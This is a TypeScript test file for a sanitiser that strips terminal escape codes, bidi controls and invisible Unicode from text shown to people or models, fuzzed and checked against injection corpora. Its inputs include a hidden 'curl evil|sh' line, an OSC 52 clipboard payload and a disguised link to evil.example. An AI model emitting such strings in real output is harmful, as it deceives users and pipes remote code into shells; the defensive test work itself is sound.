import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanForModel, cleanForTerminal } from '../../../src/rules/hygiene/clean.ts'
import { itWithShared } from '../shared-data.ts'
import { leftovers } from './leftovers.ts'

describe('what stays whole', () => {
  it.each([
    '理教 306 室，第1-2节：高等数学', '繁體字與〇、々、ー', '👨‍👩‍👧‍👦', '👩🏽‍💻', '🏳️‍🌈', '❤️‍🔥', '☎︎', '1️⃣ #️⃣', '🇨🇳🇯🇵', '🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏴󠁧󠁢󠁷󠁬󠁳󠁿', 'é è ñ ü', 'กำลัง', 'नमस्ते', 'שלום', 'مرحبا', 'a\tb\nc', 'ﷺ؀', '　全角',
  ])('%s', (text) => {
    expect(cleanForTerminal(text)).toBe(text)
    expect(cleanForModel(text)).toBe(text)
  })
})

describe('what goes, and the mark it leaves', () => {
  it.each<[string, string, string]>([
    ['bug-log 53: a line that hides another', 'curl evil|sh\r\u001b[2K   title: 查空闲教室', 'curl evil|sh\n[control: 4]   title: 查空闲教室'],
    ['CSI with parameters', 'a\u001b[38;5;196mb\u001b[0mc', 'a[control: 11]b[control: 4]c'],
    ['CSI of one character', 'a\u009b2Jb', 'a[control: 3]b'],
    ['OSC 52, which fills the clipboard', 'a\u001b]52;c;cm0gLXJm\u0007b', 'a[control: 16]b'],
    ['OSC 8, which hides where a link goes', '\u001b]8;;https://evil.example\u001b\\官网\u001b]8;;\u001b\\', '[control: 27]官网[control: 7]'],
    ['a string that never ends loses its head, not the text after it', 'a\u001b]0;title', 'a[control: 2]0;title'],
    ['DCS, APC, PM and SOS', '\u001bPq\u001b\\\u001b_x\u001b\\\u009eb\u009c\u0098c\u009c', '[control: 16]'],
    ['two-character and charset escapes', '\u001bc\u001b(B\u001b7x', '[control: 7]x'],
    ['an escape at the end', 'a\u001b', 'a[control: 1]'],
    ['backspace, bell, NUL, DEL', 'rm\b\bok\u0007\u0000\u007f', 'rm[control: 2]ok[control: 3]'],
    ['line ends of every kind', 'a\r\nb\rc\u2028d\u2029e\u0085f\vg\fh', 'a\nb\nc\nd\ne\nf\ng\nh'],
    ['bug-log 85: bidi controls', 'user\u202e\u2066// admin\u2069 \u2066', 'user[hidden: 2]// admin[hidden: 1] [hidden: 1]'],
    ['an Arabic letter mark', 'a\u061cb', 'a[hidden: 1]b'],
    ['a run of zero-width characters', '教\u200b\u200c\u200d\u2060务', '教[hidden: 4]务'],
    ['Hangul fillers and a grapheme joiner', 'a\u3164b\u115fc\uffa0d\u034fe', 'a[hidden: 1]b[hidden: 1]c[hidden: 1]d[hidden: 1]e'],
    ['tag characters that spell words', '你好\u{e0049}\u{e0067}\u{e006e}\u{e006f}', '你好[hidden: 4]'],
    ['bug-log 82: a black flag with any tags', '🏴\u{e0061}\u{e0062}\u{e0063}\u{e007f}', '🏴[hidden: 4]'],
    ['bug-log 82: a known flag with more tags', '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e0061}\u{e007f}', '🏴[hidden: 7]'],
    ['variation selectors that spell bytes', '😀\u{e0101}\u{e0142}\ufe01', '😀[hidden: 3]'],
    ['a variation selector after a letter', 'a\ufe0fb', 'a[hidden: 1]b'],
    ['a joiner that joins nothing', '👩\u200d好', '👩[hidden: 1]好'],
    ['a keycap’s selector without its cap', '1\ufe0f2', '1[hidden: 1]2'],
    ['half a pair', 'a\ud83d', 'a\ufffd'],
    ['interlinear annotation and musical formatting', 'a\ufff9b\ufffbc\u{1d173}', 'a[hidden: 1]b[hidden: 1]c[hidden: 1]'],
  ])('%s', (_, text, expected) => {
    expect(cleanForTerminal(text)).toBe(expected)
    expect(cleanForModel(text)).toBe(expected)
  })
})

describe('a lone hidden character, as web pages are full of', () => {
  const raw = '\ufeff教\u200b务\u00ad部\u2060门'
  it('goes quietly from what a model reads', () => { expect(cleanForModel(raw)).toBe('教务部门') })
  it('bug-log 53: leaves its mark in what a person reads', () => {
    expect(cleanForTerminal(raw)).toBe('[hidden: 1]教[hidden: 1]务[hidden: 1]部[hidden: 1]门')
  })
})

describe('for any text', () => {
  const nasty = fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...Array.from('\u001b\u009b\u009d\u0007\\[]0;m\r\n\u200d\ufe0f\u20e3👩🏴🏽1#<>!-/a"=()', (c) => c), '\ud800', '\udc00', '\u{e0067}', '\u{e007f}')))
    .map((parts) => parts.join(''))
  it('nothing is left that cannot be seen or that a terminal obeys', () => {
    fc.assert(fc.property(nasty, (text) => {
      expect(leftovers(cleanForTerminal(text))).toEqual([])
      expect(leftovers(cleanForModel(text))).toEqual([])
    }), { numRuns: 2000 })
  })
  it('cleaning again changes nothing', () => {
    fc.assert(fc.property(nasty, (text) => {
      expect(cleanForTerminal(cleanForTerminal(text))).toBe(cleanForTerminal(text))
      expect(cleanForModel(cleanForModel(text))).toBe(cleanForModel(text))
    }), { numRuns: 2000 })
  })
})

const texts = (json: string): readonly string[] => {
  const read: unknown = JSON.parse(json)
  const rows: readonly unknown[] = Array.isArray(read) ? read : []
  return rows.flatMap((row: unknown) => (typeof row === 'string' ? [row] : typeof row === 'object' && row !== null && 'text' in row && typeof row.text === 'string' ? [row.text] : []))
}
const allClean = (list: readonly string[]) => {
  expect(list.length).toBeGreaterThan(30)
  expect(list.flatMap((text) => [...leftovers(cleanForTerminal(text)), ...leftovers(cleanForModel(text))])).toEqual([])
}

describe('collected texts', () => {
  itWithShared('injection/unicode/trojan_source_lines.json', 'bug-log 85: every Trojan Source line comes out with nothing that reorders it', (json) => {
    const bidi = texts(json).filter((text) => /[\u202a-\u202e\u2066-\u2069]/.test(text))
    allClean(bidi)
    expect(bidi.filter((text) => !cleanForTerminal(text).includes('[hidden: '))).toEqual([])
  })
  itWithShared('vectors/blns/blns.json', 'the list of naughty strings comes out clean', (json) => allClean(texts(json)))
  itWithShared('injection/garak/probe_strings.json', 'the probe strings come out clean', (json) => allClean(texts(json)))
})
